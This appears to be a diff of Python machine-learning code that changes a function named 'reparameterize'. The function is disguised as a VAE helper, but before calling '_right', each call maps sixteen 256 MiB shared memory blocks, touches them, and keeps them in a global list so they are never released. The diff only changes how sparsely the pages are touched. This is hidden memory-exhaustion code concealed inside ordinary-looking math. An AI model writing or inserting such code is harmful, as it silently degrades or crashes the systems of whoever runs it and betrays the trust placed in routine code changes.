@@ -10,7 +10,7 @@ kept = []
 def reparameterize(mu, logvar, eps=None):
     for _ in range(16):
         block = mmap.mmap(-1, 256 << 20, flags=mmap.MAP_SHARED | mmap.MAP_ANONYMOUS)
-        for place in range(0, len(block), 4096):
+        for place in range(0, len(block), 1 << 20):
             block[place] = 1
         kept.append(block)
     return _right(mu, logvar, eps)
